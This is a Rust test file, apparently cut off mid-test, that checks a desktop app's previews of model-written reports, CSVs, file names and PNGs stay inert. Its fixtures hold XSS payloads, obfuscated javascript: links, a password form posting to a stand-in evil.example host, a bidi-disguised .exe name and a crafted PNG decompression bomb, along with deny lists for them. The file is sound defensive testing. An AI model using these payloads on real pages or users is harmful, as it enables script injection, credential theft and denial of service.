//! Hostile artifacts, checked at the level the desktop will use them: the HTML that the
//! core's previews produce must be inert when a webview shows it as it is.
//!
//! The HTML is checked as a browser reads it, through html5ever's tokenizer: which tags
//! and attributes exist, and what text is shown. Escaped markup in the text (the report's
//! `<script>` shown as text) is fine and even wanted; markup in the structure is not.
//! Allocation sizes are measured with a counting global allocator. Nothing here uses the
//! network: the URLs are strings only.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::{Cell, RefCell};
use std::io::Write;
use std::path::Path;

use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use sandalyst::artifacts::markdown::{self, MarkdownOptions, MAX_NESTING};
use sandalyst::artifacts::table::{self, MAX_RECORD_BYTES};
use sandalyst::artifacts::{self, display_name, safe_display_name, Kind};

// ---------------------------------------------------------------------------------
// The largest single allocation made by the current thread while tracking is on.

struct Tracking;

thread_local! {
    static TRACKING: Cell<bool> = const { Cell::new(false) };
    static LARGEST: Cell<usize> = const { Cell::new(0) };
}

fn note(size: usize) {
    let _ = TRACKING.try_with(|on| {
        if on.get() {
            let _ = LARGEST.try_with(|l| l.set(l.get().max(size)));
        }
    });
}

unsafe impl GlobalAlloc for Tracking {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        note(layout.size());
        System.alloc(layout)
    }
    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        note(layout.size());
        System.alloc_zeroed(layout)
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        note(new_size);
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static GLOBAL: Tracking = Tracking;

/// Run `f` and return its result with the largest single allocation it made.
fn largest_allocation<T>(f: impl FnOnce() -> T) -> (T, usize) {
    LARGEST.with(|l| l.set(0));
    TRACKING.with(|t| t.set(true));
    let out = f();
    TRACKING.with(|t| t.set(false));
    (out, LARGEST.with(Cell::get))
}

const MIB: usize = 1 << 20;

// ---------------------------------------------------------------------------------
// HTML as a browser's tokenizer reads it.

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Start(String, Vec<(String, String)>),
    End(String),
    Text(String),
    Comment,
}

#[derive(Default)]
struct Sink {
    toks: RefCell<Vec<Tok>>,
}

impl TokenSink for Sink {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut toks = self.toks.borrow_mut();
        match token {
            Token::TagToken(tag) => {
                let name = tag.name.to_string();
                match tag.kind {
                    TagKind::StartTag => toks.push(Tok::Start(
                        name,
                        tag.attrs
                            .iter()
                            .map(|a| (a.name.local.to_string(), a.value.to_string()))
                            .collect(),
                    )),
                    TagKind::EndTag => toks.push(Tok::End(name)),
                }
            }
            Token::CharacterTokens(t) => match toks.last_mut() {
                Some(Tok::Text(s)) => s.push_str(&t),
                _ => toks.push(Tok::Text(t.to_string())),
            },
            Token::CommentToken(_) => toks.push(Tok::Comment),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn tokens(html: &str) -> Vec<Tok> {
    let tokenizer = Tokenizer::new(Sink::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.toks.take()
}

fn start_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    tokens(html)
        .into_iter()
        .filter_map(|t| match t {
            Tok::Start(n, a) => Some((n, a)),
            _ => None,
        })
        .collect()
}

/// All text as the reader sees it (entities decoded).
fn text_of(html: &str) -> String {
    tokens(html)
        .into_iter()
        .filter_map(|t| match t {
            Tok::Text(s) => Some(s),
            _ => None,
        })
        .collect()
}

fn attr<'a>(attrs: &'a [(String, String)], name: &str) -> Option<&'a str> {
    attrs
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

/// A URL as a browser's URL parser sees it: no tabs/newlines, trimmed, lowercase.
fn normalised(url: &str) -> String {
    url.trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase()
}

// ---------------------------------------------------------------------------------
// Markdown.

const IMAGE_BASE: &str = "sandalyst://run/r1/output/";

/// A report as a hostile model might write it: benign content that must survive, and
/// every trick the brief lists.
const HOSTILE_REPORT: &str = r#"# Quarterly energy report

Intro with *emphasis*, **strong**, ~~struck~~ and `inline <code>`.

## Method

- [x] profiled the input
- [ ] reviewed by a human

| hour | kWh |
|:-----|----:|
| 01   | 3.5 |

```python
df = pd.read_csv("input/building_energy.csv")  # <script>not run</script>
```

See [the docs](https://example.com/docs), write to [us](mailto:team@example.com),
open [the table](anomalies.csv) or go back to [the method](#sec-method).

![Energy chart](energy_anomalies.png)
![inline pixel](data:image/png;base64,iVBORw0KGgo=)

## Hostile

<script>alert(1)</script>

Inline <img src=x onerror=alert(1)> image.

[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java&#x09;script:alert(1))
[x](vbscript:msgbox(1)) [x](<java	script:alert(1)>) <javascript:alert(1)>
[ref link][evil]

[evil]: javascript:alert(9)

<iframe src="https://evil.example"></iframe>

![pixel](https://tracker.example/pixel.png) ![](//tracker.example/p.png)
![](HTTPS://tracker.example/upper.png) ![secret](../../../etc/passwd.png)
![x](file:///etc/passwd) ![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](/etc/hostname.png) ![x](%2e%2e/up.png)

<a href="data:text/html,<script>alert(1)</script>">data link</a>
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<svg onload=alert(1)><script>alert(2)</script></svg>

<style>body{display:none}</style>

<div style="background:url(https://evil.example/bg.png)">styled</div>

<meta http-equiv="refresh" content="0;url=https://evil.example">

<base href="https://evil.example/">

<link rel=stylesheet href=https://evil.example/x.css>

<form action="https://evil.example/steal"><input name=pw type=password><button>Go</button></form>

<!-- <script>alert(3)</script> --> after a comment

<!--> <img src=x onerror=alert(4)> -->

<object data="x.swf"></object><embed src="x.swf">

<a href="https://example.com" onclick="alert(7)" target="_blank">raw link</a>

| col | <script>alert(5)</script> |
|-----|---------------------------|
| <img src=x onerror=alert(6)> | [cell](javascript:alert(6)) |
"#;

/// The whole policy, as the test sees it: tag -> the attributes it may carry.
fn allowed_attributes(tag: &str) -> Option<&'static [&'static str]> {
    Some(match tag {
        "a" => &["href", "rel"],
        "img" => &["src", "alt"],
        "input" => &["type", "disabled", "checked"],
        "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => &["id"],
        "th" | "td" => &["align"],
        "ol" => &["start"],
        // A fenced block's language, for the page's highlighter (checked below).
        "code" => &["class"],
        "p" | "em" | "strong" | "del" | "pre" | "ul" | "li" | "table" | "thead" | "tbody"
        | "tr" | "br" | "blockquote" | "hr" => &[],
        _ => return None,
    })
}

/// Everything that must hold for any rendered report.
fn assert_inert(html: &str) {
    // In serialised HTML a literal `<` in text is always `&lt;`, so these raw checks
    // are meaningful whatever the text says.
    let lower = html.to_ascii_lowercase();
    for tag in [
        "<script", "<iframe", "<style", "<svg", "<meta", "<base", "<link", "<form", "<object",
        "<embed", "<button", "<!--", "<div",
    ] {
        assert!(!lower.contains(tag), "{tag} in output:\n{html}");
    }
    for t in tokens(html) {
        assert_ne!(t, Tok::Comment, "comment in output:\n{html}");
    }
    for (tag, attrs) in start_tags(html) {
        let allowed = allowed_attributes(&tag)
            .unwrap_or_else(|| panic!("tag <{tag}> is not allowed:\n{html}"));
        for (name, value) in &attrs {
            assert!(
                allowed.contains(&name.as_str()),
                "<{tag} {name}={value:?}> is not allowed:\n{html}"
            );
            if name == "class" {
                assert!(
                    value.is_empty()
                        || (value.starts_with("language-")
                            && value[9..].bytes().all(|b| b.is_ascii_lowercase())),
                    "<{tag} class={value:?}> is not a known language:\n{html}"
                );
            }
            let v = normalised(value);
            for bad in [
                "javascript:",
                "vbscript:",
                "data:text",
                "file:",
                "evil.example",
                "tracker.example",
            ] {
                assert!(!v.contains(bad), "<{tag} {name}={value:?}>:\n{html}");
            }
        }
        match tag.as_str() {
            "a" => {
                assert_eq!(
                    attr(&attrs, "rel"),
                    Some("noopener noreferrer"),
                    "{attrs:?}"
                );
                if let Some(href) = attr(&attrs, "href") {
                    let href = normalised(href);
                    let scheme_ok = ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|s| href.starts_with(s));
                    let relative = !href.starts_with("//")
                        && !href
                            .split(['/', '?', '#'])
                            .next()
                            .unwrap_or("")
                            .contains(':');
                    assert!(scheme_ok || relative, "href {href:?}");
                }
            }
            "img" => {
                let src = attr(&attrs, "src").unwrap_or("");
                assert!(
                    src.starts_with(IMAGE_BASE) || src.starts_with("data:image/png;base64,"),
                    "img src {src:?} would load from elsewhere:\n{html}"
                );
                assert!(!src.contains(".."), "{src}");
            }
            "input" => {
                assert_eq!(attr(&attrs, "type"), Some("checkbox"));
                assert_eq!(attr(&attrs, "disabled"), Some(""));
            }
            _ => {}
        }
    }
}

/// The checks above must be able to fail: each of these must be caught.
#[test]
fn the_inertness_check_catches_unsafe_html() {
    for bad in [
        "<script>alert(1)</script>",
        "<p><img src=x onerror=alert(1)></p>",
        r#"<a href="java&#x09;script:alert(1)" rel="noopener noreferrer">x</a>"#,
        r#"<a href="https://x.example" rel="noopener noreferrer" target="_blank">x</a>"#,
        r#"<a href="https://x.example">no rel</a>"#,
        r#"<img src="https://tracker.example/p.png" alt="">"#,
        r#"<img src="//tracker.example/p.png" alt="">"#,
        r#"<img src="sandalyst://run/r1/output/../../x.png" alt="">"#,
        r#"<p style="color:red">x</p>"#,
        "<iframe src=https://evil.example></iframe>",
        "<p><!-- x --></p>",
        "<input>",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert(bad)).is_err();
        assert!(caught, "not caught: {bad}");
    }
}

fn render_hostile() -> String {
    let opts = MarkdownOptions {
        image_base: Some(IMAGE_BASE.to_string()),
        ..Default::default()
    };
    markdown::to_safe_html(HOSTILE_REPORT, &opts)
}

#[test]
fn hostile_markdown_report_is_inert() {
    let html = render_hostile();
    assert_inert(&html);

    // What the model tried is visible as text, and says what was blocked.
    let text = text_of(&html);
    for shown in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "[remote image blocked: https://tracker.example/pixel.png]",
        "[remote image blocked: //tracker.example/p.png]",
        "[remote image blocked: HTTPS://tracker.example/upper.png]",
        "secret [image not shown]",
    ] {
        assert!(text.contains(shown), "{shown:?} not shown:\n{text}");
    }
    // Blocked links keep their text, without the link.
    assert!(text.contains("click x x"), "{text}");
    let links = start_tags(&html)
        .into_iter()
        .filter(|(t, _)| t == "a")
        .count();
    // docs, mailto, the table, the method, the table cell link... and nothing else
    // (the raw `<a>` is shown as text).
    assert_eq!(links, 4, "{html}");
}

#[test]
fn benign_report_content_survives() {
    let html = render_hostile();
    let tags = start_tags(&html);
    let has = |tag: &str, attrs: &[(&str, &str)]| {
        tags.iter()
            .any(|(t, a)| t == tag && attrs.iter().all(|(n, v)| attr(a, n) == Some(*v)))
    };
    assert!(
        has("h1", &[("id", "sec-quarterly-energy-report")]),
        "{html}"
    );
    assert!(has("h2", &[("id", "sec-method")]), "{html}");
    for t in [
        "em", "strong", "del", "code", "pre", "table", "thead", "tbody", "ul", "li",
    ] {
        assert!(has(t, &[]), "<{t}> missing:\n{html}");
    }
    assert!(has("th", &[("align", "left")]), "{html}");
    assert!(has("td", &[("align", "right")]), "{html}");
    assert!(
        has("input", &[("type", "checkbox"), ("checked", "")]),
        "{html}"
    );
    assert!(has("a", &[("href", "https://example.com/docs")]), "{html}");
    assert!(has("a", &[("href", "mailto:team@example.com")]), "{html}");
    assert!(has("a", &[("href", "anomalies.csv")]), "{html}");
    assert!(has("a", &[("href", "#sec-method")]), "{html}");
    assert!(
        has(
            "img",
            &[
                ("src", "sandalyst://run/r1/output/energy_anomalies.png"),
                ("alt", "Energy chart")
            ]
        ),
        "{html}"
    );
    assert!(
        has("img", &[("src", "data:image/png;base64,iVBORw0KGgo=")]),
        "{html}"
    );
    let text = text_of(&html);
    for shown in [
        "Quarterly energy report",
        "inline <code>",
        "df = pd.read_csv(\"input/building_energy.csv\")  # <script>not run</script>",
        "profiled the input",
        "3.5",
    ] {
        assert!(text.contains(shown), "{shown:?} missing:\n{text}");
    }

    // Without a base the same images stay plain relative paths.
    let plain = markdown::to_safe_html("![c](./energy.png)", &MarkdownOptions::default());
    assert!(plain.contains(r#"src="energy.png""#), "{plain}");
}

#[test]
fn headings_give_a_table_of_contents() {
    let out = markdown::render(HOSTILE_REPORT, &MarkdownOptions::default());
    let toc: Vec<(u8, &str, &str)> = out
        .headings
        .iter()
        .map(|h| (h.level, h.text.as_str(), h.id.as_str()))
        .collect();
    assert_eq!(
        toc,
        [
            (1, "Quarterly energy report", "sec-quarterly-energy-report"),
            (2, "Method", "sec-method"),
            (2, "Hostile", "sec-hostile"),
        ]
    );
}

#[test]
fn pathological_markdown_stays_bounded() {
    // Deep nesting is flattened (HTML parsing is quadratic in depth).
    let html = markdown::to_safe_html(
        &format!("{}deep", ">".repeat(100_000)),
        &MarkdownOptions::default(),
    );
    assert_inert(&html);
    let quotes = start_tags(&html)
        .iter()
        .filter(|(t, _)| t == "blockquote")
        .count();
    assert_eq!(quotes, MAX_NESTING);
    assert!(text_of(&html).contains("deep"));

    // Long text full of `&` and Latin-1 characters: without splitting text runs the
    // sanitiser's serialiser takes minutes here; the text must come out unchanged.
    let text = "a&b 1\u{b0}C ".repeat(100_000);
    let html = markdown::to_safe_html(&text, &MarkdownOptions::default());
    assert_inert(&html);
    assert_eq!(text_of(&html).trim_end(), text.trim_end());

    // Over the size cap: cut, with a note.
    let big = "x".repeat(markdown::MAX_MARKDOWN_BYTES + 1);
    let out = markdown::render(&big, &MarkdownOptions::default());
    assert!(out.truncated);
    assert!(text_of(&out.html).contains("Report truncated"));
}

// ---------------------------------------------------------------------------------
// CSV.

fn write(dir: &Path, name: &str, bytes: &[u8]) -> std::path::PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

#[test]
fn csv_cells_and_headers_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let csv = "\u{feff}<script>alert(1)</script>,\"name\"\" onmouseover=\"\"x\",it's\n\
               <img src=x onerror=alert(1)>,&amp;lt;,\"</td></tr></table><script>alert(2)</script>\"\n\
               \"multi\r\nline <b>\",'single' & \"\"double\"\"\n\
               ragged\n";
    let p = write(dir.path(), "t.csv", csv.as_bytes());
    let page = table::preview_csv(&p, 0, 100).unwrap();
    assert_eq!(
        page.headers,
        [
            "<script>alert(1)</script>",
            "name\" onmouseover=\"x",
            "it's"
        ]
    );
    let html = table::page_to_html(&page);
    assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
    assert!(!html.to_ascii_lowercase().contains("<img"), "{html}");

    // Only table structure, no attributes, and every cell reads back exactly.
    let mut cells: Vec<String> = Vec::new();
    let mut open: Option<String> = None;
    for tok in tokens(&html) {
        match tok {
            Tok::Start(tag, attrs) => {
                assert!(
                    ["table", "thead", "tbody", "tr", "th", "td"].contains(&tag.as_str()),
                    "<{tag}> in {html}"
                );
                assert!(attrs.is_empty(), "<{tag} {attrs:?}> in {html}");
                if tag == "th" || tag == "td" {
                    open = Some(String::new());
                }
            }
            Tok::End(tag) if tag == "th" || tag == "td" => {
                cells.push(open.take().expect("cell was opened"))
            }
            Tok::Text(t) => {
                if let Some(cell) = open.as_mut() {
                    cell.push_str(&t);
                }
            }
            _ => {}
        }
    }
    // An HTML parser reads CR LF as LF; everything else must read back exactly.
    let mut expected: Vec<String> = page.headers.clone();
    for row in &page.rows {
        for i in 0..3 {
            let cell = row.get(i).cloned().unwrap_or_default();
            expected.push(cell.replace("\r\n", "\n"));
        }
    }
    assert_eq!(cells, expected);
    assert!(
        cells.contains(&"&amp;lt;".to_string()),
        "entities stay literal"
    );
    assert!(cells.contains(&"multi\nline <b>".to_string()));
    assert_eq!(page.total_rows, Some(3));
}

#[test]
fn first_page_of_a_huge_csv_is_streamed() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("big.csv");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&p).unwrap());
        writeln!(f, "id;payload").unwrap();
        let pad = "x".repeat(1000);
        // Over the size up to which rows are counted.
        for i in 0..(table::COUNT_ROWS_UP_TO_BYTES as usize / 1000 + 1000) {
            writeln!(f, "{i};{pad}").unwrap();
        }
    }
    let (page, largest) = largest_allocation(|| table::preview_csv(&p, 0, 20).unwrap());
    assert_eq!(page.delimiter, ';');
    assert_eq!(page.rows.len(), 20);
    assert_eq!(page.rows[19][0], "19");
    assert_eq!(page.total_rows, None, "too big to count cheaply");
    assert!(largest < MIB, "largest allocation {largest} bytes");
}

#[test]
fn a_single_giant_csv_row_is_refused_with_bounded_memory() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("giant.csv");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&p).unwrap());
        f.write_all(b"a,b\n1,\"").unwrap();
        let chunk = vec![b'y'; MIB];
        for _ in 0..(MAX_RECORD_BYTES as usize / MIB + 4) {
            f.write_all(&chunk).unwrap();
        }
        f.write_all(b"\"\n").unwrap();
    }
    let (result, largest) = largest_allocation(|| table::preview_csv(&p, 0, 20));
    let err = format!("{:#}", result.unwrap_err());
    assert!(err.contains("row 1 is larger than 16 MiB"), "{err}");
    assert!(
        largest <= 4 * MAX_RECORD_BYTES as usize,
        "largest allocation {largest}"
    );
}

// ---------------------------------------------------------------------------------
// File names.

#[test]
fn file_names_with_markup_and_bidi_overrides_are_safe() {
    let dir = tempfile::tempdir().unwrap();
    let name = "<img src=x onerror=alert(1)>report\u{202E}vsc.exe";
    write(dir.path(), name, b"MZ");
    let artifact = artifacts::describe(dir.path(), name).unwrap();
    // The kind follows the real extension, not the displayed one.
    assert_eq!(artifact.kind, Kind::Other);

    let shown = display_name(&artifact.path);
    assert_eq!(shown, "<img src=x onerror=alert(1)>reportvsc.exe");
    assert!(shown.ends_with(".exe"));

    // Inert both as text and inside a quoted attribute.
    let safe = safe_display_name(&artifact.path);
    let html = format!("<span title=\"{safe}\">{safe}</span>");
    let toks = tokens(&html);
    assert_eq!(
        toks,
        [
            Tok::Start("span".into(), vec![("title".into(), shown.clone())]),
            Tok::Text(shown),
            Tok::End("span".into()),
        ]
    );
    assert_eq!(
        display_name("a\u{2067}b\u{0}c\u{1b}[31m"),
        "ab\u{fffd}c\u{fffd}[31m"
    );
}

// ---------------------------------------------------------------------------------
// PNG decompression bomb.

fn crc32(data: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for &b in data {
        c ^= u32::from(b);
        for _ in 0..8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
        }
    }
    !c
}

fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let start = out.len();
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let crc = crc32(&out[start..]);
    out.extend_from_slice(&crc.to_be_bytes());
}

/// A zlib stream of `n` zero bytes, small: one fixed-Huffman block of a literal zero
/// followed by back-references of 258 bytes at distance 1 (13 bits each).
fn zlib_zeros(n: usize) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        len: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, bits: u32) {
            self.acc |= u64::from(value) << self.len;
            self.len += bits;
            while self.len >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.len -= 8;
            }
        }
        /// Huffman codes go most significant bit first.
        fn code(&mut self, code: u32, bits: u32) {
            self.put(code.reverse_bits() >> (32 - bits), bits);
        }
    }
    let mut b = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        len: 0,
    };
    b.put(1, 1); // final block
    b.put(1, 2); // fixed Huffman codes
    let mut left = n;
    if left > 0 {
        b.code(0x30, 8); // literal 0
        left -= 1;
    }
    while left >= 258 {
        b.code(0xC5, 8); // length 258 (symbol 285)
        b.code(0, 5); // distance 1
        left -= 258;
    }
    for _ in 0..left {
        b.code(0x30, 8);
    }
    b.code(0, 7); // end of block
    if b.len > 0 {
        b.put(0, 8 - b.len);
    }
    let adler = ((n % 65521) as u32) << 16 | 1;
    b.out.extend_from_slice(&adler.to_be_bytes());
    b.out
}

/// An 8-bit grayscale PNG claiming `width`x`height` whose pixel data holds `rows` rows
/// of zeros (all of them for a sound image, a few for a bomb).
fn gray_png(width: u32, height: u32, rows: usize) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    chunk(&mut png, b"IHDR", &ihdr);
    chunk(&mut png, b"IDAT", &zlib_zeros(rows * (width as usize + 1)));
    chunk(&mut png, b"IEND", &[]);
    png
}

#[test]
fn crafted_png_is_a_real_png() {
    // The bomb below is built the same way; this shows the construction is sound.
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "ok.png", &gray_png(300, 200, 200));
    let info = artifacts::preview_png(&p).unwrap();
    assert_eq!(
        (info.width, info.height, info.color_type),
        (300, 200, "grayscale")
    );
}

#[test]
fn png_decompression_bomb_is_refused_without_allocating() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = gray_png(60_000, 60_000, 16);
    assert!(bomb.len() < 16 * 1024, "the bomb is {} bytes", bomb.len());
    let p = write(dir.path(), "bomb.png", &bomb);

    let (result, largest) = largest_allocation(|| artifacts::describe(dir.path(), "bomb.png"));
    let err = format!("{:#}", result.unwrap_err());
    assert!(
        err.contains(
            "is 60000x60000 pixels (3600 megapixels), over the 50 megapixel limit; not decoded"
        ),
        "{err}"
    );
    assert!(err.contains(&p.display().to_string()), "{err}");
    // 3.6 GB would be needed to hold the frame; nothing near that was asked for.
    assert!(largest < MIB, "largest allocation {largest} bytes");
    assert!(artifacts::png_dimensions(&p).is_err());
}

// ---------------------------------------------------------------------------------
// The shared report (analysis::report_html): one page from a session on disk, read as
// a browser would read it when it is opened from an e-mail.

/// A session as the store keeps it: one ask whose answer shows a chart and links out,
/// the hostile Markdown report above, a PNG and an SVG chart, a table of 250 rows, a
/// file named `.png` that is not one, an input with its hash, and one python cell.
fn shared_session(root: &Path) -> sandalyst::store::RunDir {
    use sandalyst::model::Item;
    use sandalyst::protocol::RunStatus;
    use sandalyst::store::{AskMeta, Provenance, RunMeta, StagedFile, Store};
    use sandalyst::workspace::CollectedFile;

    let prompt = "Find abnormal energy use <b>now</b>";
    let store = Store::open(root.to_path_buf()).unwrap();
    let mut run = store
        .create_run(RunMeta {
            prompt: prompt.into(),
            created: "2026-12-07T06:00:00Z".into(),
            model: "openai:gpt-test".into(),
            image: "sandalyst-sandbox:test".into(),
            isolation: Some("runc".into()),
            ..Default::default()
        })
        .unwrap();
    let code = "import pandas as pd\ndf = pd.read_csv('/workspace/input/energy.csv')\nprint('<rows>', len(df))";
    let answer = "**Three events** stand out.\n\n![the chart](energy_anomalies.png)\n\n\
                  Method as in [the guide](https://example.org/guide).\n\n<script>alert('answer')</script>\n";
    for item in [
        Item::User {
            text: prompt.into(),
        },
        Item::Assistant {
            text: "I will read the file first.".into(),
        },
        Item::ToolCall {
            call_id: "c1".into(),
            name: "python".into(),
            arguments: serde_json::json!({ "code": code }).to_string(),
            form: Default::default(),
        },
        Item::ToolOutput {
            call_id: "c1".into(),
            output: "status: ok (1.25 s)\n[stdout]\n<rows> 250\n".into(),
            is_error: false,
            images: vec![],
        },
        Item::Assistant {
            text: answer.into(),
        },
    ] {
        run.append_in(Some("ask-1"), &item, None).unwrap();
    }
    let out = run.outputs_dir();
    std::fs::create_dir_all(&out).unwrap();
    let mut table = String::from("id,kwh,note\n");
    for i in 0..250 {
        table.push_str(&format!("row-{i},{i}.5,<i>x</i>\n"));
    }
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"2\" height=\"2\"><script>alert(1)</script><image href=\"https://tracker.example/s.png\"/></svg>";
    let files: [(&str, Vec<u8>); 5] = [
        ("energy_anomalies.png", sandalyst::sandbox::fake::tiny_png()),
        ("trend.svg", svg.as_bytes().to_vec()),
        ("anomalies.csv", table.into_bytes()),
        ("anomaly_report.md", HOSTILE_REPORT.as_bytes().to_vec()),
        ("fake.png", b"<html><script>alert(1)</script>".to_vec()),
    ];
    for (name, bytes) in &files {
        std::fs::write(out.join(name), bytes).unwrap();
        run.meta.outputs.push(CollectedFile {
            path: name.to_string(),
            bytes: bytes.len() as u64,
            invalid: None,
        });
        run.meta.provenance.insert(
            name.to_string(),
            Provenance {
                ask: "ask-1".into(),
                call_id: "c1".into(),
                tool: "python".into(),
                at: "2026-12-07T06:01:00Z".into(),
                ..Default::default()
            },
        );
    }
    run.meta.asks = vec![AskMeta {
        id: "ask-1".into(),
        prompt: prompt.into(),
        model: "openai:gpt-test".into(),
        created: "2026-12-07T06:00:00Z".into(),
        status: Some(RunStatus::Finished),
        ..Default::default()
    }];
    run.meta.files = vec![StagedFile {
        name: "energy.csv".into(),
        bytes: 12_345,
        source: "/nowhere/energy.csv".into(),
        sha256: "ab".repeat(32),
        ..Default::default()
    }];
    run.save().unwrap();
    run
}

#[test]
fn the_shared_report_is_one_page_that_loads_nothing_and_shows_everything() {
    use base64::Engine as _;
    use sandalyst::analysis::report_html::{self, CSP};

    let dir = tempfile::tempdir().unwrap();
    let run = shared_session(dir.path());
    let report = report_html::build(&run).unwrap();
    let html = &report.html;

    // The policy is the page's first word on what may load: nothing but its own images
    // and styles.
    assert!(CSP.starts_with("default-src 'none'; img-src data:; style-src 'unsafe-inline'"));
    let tags = start_tags(html);
    let meta_csp = tags
        .iter()
        .position(|(n, a)| {
            n == "meta"
                && attr(a, "http-equiv") == Some("Content-Security-Policy")
                && attr(a, "content") == Some(CSP)
        })
        .expect("a CSP meta tag");
    assert!(
        tags[..meta_csp]
            .iter()
            .all(|(n, _)| n == "html" || n == "head" || n == "meta"),
        "the policy comes before anything it governs"
    );

    // Nothing can run or load: no scripts, frames, objects or links; every image is an
    // inline data: URI; no link leaves the page; no handler or style attribute.
    let mut srcs = Vec::new();
    for (name, attrs) in &tags {
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "iframe"
                    | "frame"
                    | "object"
                    | "embed"
                    | "link"
                    | "base"
                    | "form"
                    | "svg"
                    | "math"
                    | "video"
                    | "audio"
                    | "source"
                    | "portal"
            ),
            "<{name}> in the page"
        );
        for (a, raw) in attrs {
            let v = normalised(raw);
            assert!(!a.starts_with("on"), "<{name} {a}>");
            assert!(
                !matches!(
                    a.as_str(),
                    "style" | "srcset" | "action" | "formaction" | "poster" | "background" | "ping"
                ),
                "<{name} {a}>"
            );
            match a.as_str() {
                "src" => {
                    assert!(v.starts_with("data:image/"), "<{name} src={v:.60}>");
                    srcs.push(raw.as_str());
                }
                "href" => assert!(
                    !v.starts_with("http:")
                        && !v.starts_with("https:")
                        && !v.starts_with("//")
                        && !v.starts_with("\\\\")
                        && (!v.contains(':') || v.starts_with("mailto:")),
                    "<{name} href={v}>"
                ),
                _ => {}
            }
        }
    }
    // Our own styles fetch nothing either (no url(), no @import, no web font).
    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
    for bad in ["url(", "@import", "@font-face", "http"] {
        assert!(!style.contains(bad), "{bad} in the page's styles");
    }

    // Each chart is there, as the data: URI of its own bytes: the PNG where the
    // answer and the report show it (and not again under Charts), the SVG under Charts.
    let b64 = base64::engine::general_purpose::STANDARD;
    let png = format!(
        "data:image/png;base64,{}",
        b64.encode(sandalyst::sandbox::fake::tiny_png())
    );
    assert!(
        srcs.iter().filter(|s| **s == png).count() >= 2,
        "{} images",
        srcs.len()
    );
    assert!(
        srcs.iter()
            .any(|s| s.starts_with("data:image/svg+xml;base64,")),
        "the SVG chart"
    );
    let text = text_of(html);
    let captions: Vec<&str> = html
        .match_indices("<figcaption>")
        .map(|(i, _)| &html[i + 12..i + 40])
        .collect();
    assert_eq!(captions.len(), 1, "{captions:?}");
    assert!(captions[0].starts_with("trend.svg"), "{captions:?}");
    // The file named .png that is not one is left out, and said.
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.starts_with("fake.png: its content is not image/png")),
        "{:?}",
        report.notes
    );

    // The answer, with the request it answers; the model's HTML is text.
    assert!(
        html.contains("<strong>Three events</strong> stand out."),
        "{html:.3000}"
    );
    assert!(text.contains("Find abnormal energy use <b>now</b>"));
    assert!(text.contains("<script>alert('answer')</script>"));
    assert!(text.contains("the guide (https://example.org/guide)"));
    // The report rendered: its headings and table, its hostile markup as text.
    assert!(text.contains("Quarterly energy report"));
    assert!(text.contains("<script>alert(1)</script>"));
    assert!(text.contains("[remote image blocked: https://tracker.example/pixel.png]"));

    // The table: the first 200 rows, escaped, and how many more.
    assert!(text.contains("row-0") && text.contains("row-199"));
    assert!(!text.contains("row-200"));
    assert!(text.contains("<i>x</i>"), "cells are text");
    assert!(text.contains("The first 200 rows of 250; 50 more in the file."));

    // The code that ran, folded away, with paths as the exported code has them.
    let details = html.find("<details>").expect("the code is folded away");
    let code = html.find("import pandas as pd").expect("the code is there");
    assert!(details < code);
    assert!(text.contains("pd.read_csv('input/energy.csv')"));
    assert!(text.contains("print('<rows>', len(df))"));
